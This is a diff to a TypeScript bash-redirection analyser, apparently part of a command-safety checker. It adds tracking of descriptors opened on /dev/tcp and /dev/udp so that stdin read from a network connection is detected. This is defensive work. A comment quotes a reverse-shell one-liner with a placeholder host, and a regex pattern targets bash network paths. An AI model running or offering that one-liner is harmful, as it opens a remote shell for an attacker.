@@ -1,5 +1,6 @@
 // Redirections: files written (`>`, `>>`, `&>`, `>|`), stdin sources (`<`, `<(...)`, heredocs,
-// here-strings) and the commands that continue after a heredoc start (`cat <<EOF | sh`).
+// here-strings), the commands that continue after a heredoc start (`cat <<EOF | sh`), and the
+// descriptors open on a network connection (`bash -i >& /dev/tcp/h/p 0>&1`: stdin is the connection).
 import type { ShellWord, StdinFeed } from './analysis-types';
 import type { SyntaxNode } from './shell-parser';
 import { buildWord, fieldWords } from './shell-words';
@@ -8,14 +9,19 @@ import type { WalkerApi } from './walker-api';
 
 const WRITE_OPERATORS = new Set(['>', '>>', '>|', '&>', '&>>', '<>']);
 
+/** Bash's own network paths. */
+const NETWORK_PATH = /^\/dev\/(?:tcp|udp)\/./;
+
 export interface RedirectEffects {
   stdin?: StdinFeed;
   /** Pipelines or lists written after a heredoc start, to run after the command. */
   continuations: SyntaxNode[];
+  /** Descriptors open on a network connection after these redirections (kept by a bare `exec`). */
+  connections: Map<string, string>;
 }
 
 export function applyRedirects(api: WalkerApi, redirects: readonly SyntaxNode[], scope: Scope, commandText: string): RedirectEffects {
-  const effects: RedirectEffects = { continuations: [] };
+  const effects: RedirectEffects = { continuations: [], connections: new Map(scope.connections) };
   for (const redirect of redirects) {
     if (redirect.type === 'file_redirect') applyFileRedirect(api, redirect, scope, commandText, effects);
     else if (redirect.type === 'herestring_redirect') {
@@ -24,9 +30,50 @@ export function applyRedirects(api: WalkerApi, redirects: readonly SyntaxNode[],
       const word = buildWord(target, api.wordHooks(scope));
       const known = word.literal || word.guess !== undefined;
       effects.stdin = { kind: 'herestring', text: `${word.guess ?? word.value}\n`, literal: known, word };
+      effects.connections.delete('0');
     } else if (redirect.type === 'heredoc_redirect') applyHeredoc(api, redirect, scope, commandText, effects);
   }
+  const connection = effects.connections.get('0');
+  if (connection !== undefined) effects.stdin = { kind: 'network', address: connection };
   return effects;
+}
+
+/**
+ * tree-sitter-bash reads the `0` of `sh 0<x` as an argument, and that of `>& x 0>&1` as a second
+ * target of the redirection before: digits written right against a redirection are its descriptor.
+ */
+export function isDescriptorOfNext(node: SyntaxNode): boolean {
+  if (node.type !== 'number' || !/^\d+$/.test(node.text)) return false;
+  const next = node.nextSibling ?? node.parent?.nextSibling;
+  return !!next && next.type.endsWith('_redirect') && next.startIndex === node.endIndex && !next.childForFieldName('descriptor');
+}
+
+function descriptorOf(redirect: SyntaxNode): string | undefined {
+  const written = redirect.childForFieldName('descriptor');
+  if (written) return written.text;
+  let before = redirect.previousSibling;
+  while (before && before.childCount > 0) before = before.lastChild;
+  return before && isDescriptorOfNext(before) ? before.text : undefined;
+}
+
+/** Which descriptors now lead to a network connection: `< /dev/tcp/..`, `>& /dev/tcp/..`, `0<&3`, `0>&1`. */
+function followConnections(connections: Map<string, string>, redirect: SyntaxNode, operator: string, destination: string): void {
+  const written = descriptorOf(redirect);
+  const duplicate = /^(\d+)-?$/.exec(destination);
+  if ((operator === '>&' || operator === '<&') && (duplicate || destination === '-')) {
+    const to = written ?? (operator === '<&' ? '0' : '1');
+    const from = duplicate ? connections.get(duplicate[1]!) : undefined;
+    if (from === undefined) connections.delete(to);
+    else connections.set(to, from);
+    return;
+  }
+  const reads = operator === '<' || operator === '<>';
+  const both = written === undefined && (operator === '>&' || operator.startsWith('&>'));
+  const descriptors = written !== undefined ? [written] : reads ? ['0'] : both ? ['1', '2'] : ['1'];
+  for (const descriptor of descriptors) {
+    if (NETWORK_PATH.test(destination)) connections.set(descriptor, destination);
+    else connections.delete(descriptor);
+  }
 }
 
 function applyFileRedirect(api: WalkerApi, redirect: SyntaxNode, scope: Scope, commandText: string, effects: RedirectEffects): void {
@@ -34,6 +81,7 @@ function applyFileRedirect(api: WalkerApi, redirect: SyntaxNode, scope: Scope, c
   const destinationNode = redirect.childForFieldName('destination') ?? redirect.namedChildren.at(-1);
   if (!destinationNode || destinationNode.type === 'file_descriptor') return;
   const destination = buildWord(destinationNode, api.wordHooks(scope));
+  followConnections(effects.connections, redirect, operator, destination.guess ?? destination.value);
   // Bash expands a target's braces too: `> /{e..e}tc/hosts` writes /etc/hosts (more than one word
   // is an error, but each is judged).
   if (operator === '<') {
@@ -71,6 +119,7 @@ function applyHeredoc(api: WalkerApi, redirect: SyntaxNode, scope: Scope, comman
   if (redirect.children.some((child) => child.type === '<<-')) text = text.replace(/^\t+/gm, '');
   const literal = quoted || !body?.namedChildren.some((child) => child.type !== 'heredoc_content');
   effects.stdin = { kind: 'heredoc', text, literal };
+  effects.connections.delete('0');
   for (const child of redirect.namedChildren) {
     if (child.type === 'file_redirect') applyFileRedirect(api, child, scope, commandText, effects);
     else if (child.type === 'herestring_redirect' || child.type === 'heredoc_redirect') continue;
